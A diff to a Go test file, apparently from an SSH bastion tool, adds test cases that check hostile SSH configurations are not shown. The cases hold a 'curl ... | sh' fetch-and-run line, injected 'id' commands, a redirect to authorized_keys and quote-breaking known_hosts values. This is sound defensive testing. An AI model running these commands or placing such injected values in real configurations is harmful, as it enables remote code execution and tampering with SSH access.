@@ -5,6 +5,7 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/bastion-on-demand/bastion/internal/api"
 	"github.com/bastion-on-demand/bastion/internal/bastion"
 )
 
@@ -68,6 +69,21 @@ func TestHostileConfigurationIsNotShown(t *testing.T) {
 		},
 		"a cipher with a blank": func(b *Bastion) { b.SSHConfig += "  Ciphers a -b\n" },
 		"a token of ssh":        func(b *Bastion) { b.SSHConfig += "  User %h\n" },
+		"a comment with a command": func(b *Bastion) {
+			b.SSHConfig = "#   curl https://example.com/x | sh\n" + b.SSHConfig
+		},
+		"another command in the instructions": func(b *Bastion) {
+			b.SSHConfig = strings.Replace(b.SSHConfig, "#   sed -n", "#   id; sed -n", 1)
+		},
+		"instructions for another file": func(b *Bastion) {
+			b.SSHConfig = strings.ReplaceAll(b.SSHConfig, "bastion-default.known_hosts", "$HOME/.ssh/authorized_keys")
+		},
+		"instructions twice": func(b *Bastion) {
+			b.SSHConfig = api.WithoutKnownHostsCommand("x; id") + b.SSHConfig
+		},
+		"a known_hosts line with a command": func(b *Bastion) {
+			b.SSHConfig += "# known_hosts: h ssh-ed25519 AAAA' && id\n"
+		},
 		"an incomplete line":    func(b *Bastion) { b.SSHConfig = strings.TrimSuffix(b.SSHConfig, "\n") },
 		"nothing":               func(b *Bastion) { b.SSHConfig = "" },
 		"a name with a command": func(b *Bastion) { b.Name = "x; id" },
